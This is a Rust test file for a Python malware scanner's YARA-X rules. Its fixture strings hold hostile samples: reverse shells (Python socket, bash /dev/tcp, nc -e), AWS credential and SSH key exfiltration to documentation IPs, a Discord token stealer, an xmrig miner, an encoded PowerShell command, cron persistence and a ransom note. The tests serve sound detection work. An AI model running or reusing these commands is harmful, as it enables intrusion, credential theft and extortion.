//! YARA-X content rules: the shipped rules compile and match the payload styles they describe
//! (inert text, documentation addresses), stay quiet on clean code, and user rule folders load
//! or fail with the file, line and problem named.

use pyward_analyze::yara::{YaraRules, YaraSet};
use pyward_analyze::{analyze_file, Options};
use std::sync::Arc;
use std::time::Duration;

fn builtin_hits(src: &str) -> Vec<String> {
    let rules = YaraRules::builtin().expect("shipped rules compile");
    let mut v: Vec<String> = rules
        .scan(src.as_bytes(), Duration::from_secs(5))
        .unwrap()
        .into_iter()
        .map(|h| h.rule)
        .collect();
    v.sort();
    v
}

#[test]
fn shipped_rules_compile() {
    let r = YaraRules::builtin().expect("shipped rules compile");
    assert!(r.len() >= 14, "{}", r.len());
    assert!(r.files().iter().all(|f| f.starts_with("builtin:")));
}

#[test]
fn shipped_rules_match_their_payload_styles() {
    let cases: &[(&str, &str)] = &[
        (
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
            "pyward_exec_compressed_base64",
        ),
        (
            "exec(__import__('lzma').decompress(__import__('base64').b64decode(b'XQAAgAD')))\n",
            "pyward_exec_compressed_base64",
        ),
        ("HOST = '68.183.212.246'\n", "pyward_jeilyfish_ioc"),
        (
            "import os, urllib.request\nfor d in ('~/.ssh', '~/.gnupg'):\n    for r, _, fs in os.walk(os.path.expanduser(d)):\n        pass\nurllib.request.urlopen('http://192.0.2.8/u', data=b'x')\n",
            "pyward_key_dirs_with_upload",
        ),
        (
            "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
            "pyward_python_reverse_shell",
        ),
        (
            "os.system('bash -i >& /dev/tcp/192.0.2.9/4444 0>&1')\n",
            "pyward_shell_reverse_shell_string",
        ),
        (
            "subprocess.call('nc -e /bin/sh 192.0.2.9 4444', shell=True)\n",
            "pyward_shell_reverse_shell_string",
        ),
        (
            "import requests, os\nc = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://198.51.100.7/c', data=c)\n",
            "pyward_cloud_credentials_exfil",
        ),
        (
            "p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nhook = 'https://discord.com/api/webhooks/123456789/abc'\n",
            "pyward_discord_token_stealer",
        ),
        (
            "subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://198.51.100.3:3333', '--donate-level', '1'])\n",
            "pyward_crypto_miner",
        ),
        (
            "if os.path.exists('/tmp/f1gl6i6z'):\n    sys.exit()\n",
            "pyward_jupyter_ransomware_marker",
        ),
        (
            "data = bytes(b ^ key for b in data)\nnote = 'All your files have been encrypted! Send 0.5 BTC'\n",
            "pyward_ransom_note",
        ),
        (
            "out = bytes(c ^ k for c in buf)\nprint('Send 0.5 BTC to recover them')\n",
            "pyward_ransom_note",
        ),
        (
            "os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')\n",
            "pyward_powershell_cradle",
        ),
        (
            "os.system('(crontab -l; echo \"* * * * * python3 /tmp/x.py\") | crontab -')\n",
            "pyward_cron_or_rc_append",
        ),
    ];
    for (src, rule) in cases {
        let hits = builtin_hits(src);
        assert!(
            hits.iter().any(|h| h == rule),
            "{rule} not in {hits:?} for {src}"
        );
    }
}

#[test]
fn clean_code_matches_no_shipped_rule() {
    let clean = [
        "import zlib\ndef unpack(b):\n    return zlib.decompress(b)\n",
        "import paramiko, os\nkey = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\n",
        "import socket\ns = socket.socket()\ns.connect(('localhost', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
        "# Mining pool statistics are out of scope.\nclass Miner:\n    pass\n",
        "import subprocess\nsubprocess.run(['bash', '-c', 'echo hi'])\n",
    ];
    for src in clean {
        assert_eq!(builtin_hits(src), Vec::<String>::new(), "{src}");
    }
}

#[test]
fn a_match_becomes_a_finding_with_rule_mitre_and_offset() {
    let src = "import os\n\n# marker\nMARK = '/tmp/f1gl6i6z'\n";
    let fa = analyze_file("pkg/run.py", src.as_bytes(), &Options::default());
    let f = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "yara.pyward_jupyter_ransomware_marker")
        .unwrap_or_else(|| panic!("{:?}", fa.findings));
    assert_eq!(f.gate, "heuristics");
    assert_eq!(f.trigger, "yara-critical");
    assert_eq!(f.line, Some(4));
    assert_eq!(f.path.as_deref(), Some("pkg/run.py"));
    assert!(f.mitre.iter().any(|m| m.id == "T1486"), "{:?}", f.mitre);
    let ev = |k: &str| {
        f.evidence
            .iter()
            .find(|e| e.key == k)
            .map(|e| e.value.clone())
    };
    assert_eq!(
        ev("offset").as_deref(),
        Some(src.find("/tmp/f1gl6i6z").unwrap().to_string().as_str())
    );
    assert_eq!(
        ev("yara.rule").as_deref(),
        Some("pyward_jupyter_ransomware_marker")
    );
    assert_eq!(ev("snippet").as_deref(), Some("/tmp/f1gl6i6z"));
    // A critical threat alone makes the file suspicious.
    assert!(pyward_analyze::score(&fa.rules) >= pyward_analyze::SUSPICIOUS);
    // With YARA off the same file is clean.
    let off = Options {
        yara: YaraSet::Off,
        ..Default::default()
    };
    assert!(analyze_file("pkg/run.py", src.as_bytes(), &off)
        .findings
        .is_empty());
}

#[test]
fn decoded_layers_are_scanned_too() {
    // The marker only exists after base64 decoding.
    use base64::Engine;
    let stage = "import os\nif os.path.exists('/tmp/f1gl6i6z'):\n    os.remove(__file__)\n";
    let blob = base64::engine::general_purpose::STANDARD.encode(stage);
    let src = format!("import base64\nexec(base64.b64decode('{blob}'))\n");
    assert!(!src.contains("f1gl6i6z"));
    let fa = analyze_file("x.py", src.as_bytes(), &Options::default());
    let f = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "yara.pyward_jupyter_ransomware_marker")
        .unwrap_or_else(|| panic!("{:?}", fa.findings));
    assert!(f.evidence.iter().any(|e| e.key == "decoded_layer"));
    assert_eq!(f.line, Some(2));
}

#[test]
fn user_rules_load_and_apply() {
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("team");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(
        sub.join("corp.yar"),
        r#"rule corp_canary {
    meta:
        description = "internal canary token"
        mitre = "T1552.001"
        severity = "medium"
        kind = "capability"
    strings:
        $a = "CANARY-7f3a9"
    condition:
        $a
}
"#,
    )
    .unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    let rules = YaraRules::load(&[dir.path().to_path_buf()]).unwrap();
    assert!(rules.files().iter().any(|f| f.ends_with("corp.yar")));
    let opts = Options {
        yara: YaraSet::Rules(Arc::new(rules)),
        ..Default::default()
    };
    let fa = analyze_file("a.py", b"TOKEN = 'CANARY-7f3a9'\n", &opts);
    let f = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "yara.corp_canary")
        .unwrap_or_else(|| panic!("{:?}", fa.findings));
    assert_eq!(f.trigger, "yara-capability");
    assert_eq!(f.severity, pyward_core::Severity::Medium);
    assert_eq!(f.mitre.first().map(|m| m.id.as_ref()), Some("T1552.001"));
    // Shipped rules stay active next to the user's.
    let fa = analyze_file("b.py", b"H = '68.183.212.246'\n", &opts);
    assert!(fa
        .findings
        .iter()
        .any(|f| f.rule_id == "yara.pyward_jeilyfish_ioc"));
}

#[test]
fn bad_rules_name_file_line_and_problem() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a_ok.yar"), "rule ok { condition: true }\n").unwrap();
    std::fs::write(
        dir.path().join("b_bad.yar"),
        "rule fine { condition: true }\n\nrule broken {\n    strings:\n        $a = \"x\"\n    condition:\n        $b\n}\n",
    )
    .unwrap();
    let e = YaraRules::load(&[dir.path().to_path_buf()]).unwrap_err();
    assert!(e.file.ends_with("b_bad.yar"), "{e}");
    assert_eq!(e.line, Some(7), "{e}");
    let msg = e.to_string();
    assert!(msg.contains("b_bad.yar:7:"), "{msg}");
    assert!(msg.contains("$b"), "{msg}");

    let syntax = tempfile::tempdir().unwrap();
    std::fs::write(syntax.path().join("s.yara"), "rule { condition: true }\n").unwrap();
    let e = YaraRules::load(&[syntax.path().to_path_buf()]).unwrap_err();
    assert_eq!(e.line, Some(1), "{e}");

    let empty = tempfile::tempdir().unwrap();
    let e = YaraRules::load(&[empty.path().to_path_buf()]).unwrap_err();
    assert!(e.to_string().contains("no *.yar"), "{e}");
    let e = YaraRules::load(&[empty.path().join("missing")]).unwrap_err();
    assert!(e.to_string().contains("cannot read"), "{e}");

    // `include` is refused: it would read files outside the named folder.
    let inc = tempfile::tempdir().unwrap();
    std::fs::write(
        inc.path().join("i.yar"),
        "include \"/etc/passwd\"\nrule r { condition: true }\n",
    )
    .unwrap();
    assert!(YaraRules::load(&[inc.path().to_path_buf()]).is_err());
}

#[cfg(unix)]
#[test]
fn symlinks_out_of_the_rule_folder_are_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("evil.yar"), "rule { broken").unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path().join("evil.yar"), dir.path().join("evil.yar"))
        .unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("ok.yar"), "rule ok2 { condition: false }\n").unwrap();
    let rules = YaraRules::load(&[dir.path().to_path_buf()]).unwrap();
    assert!(!rules.files().iter().any(|f| f.contains("evil")));
}
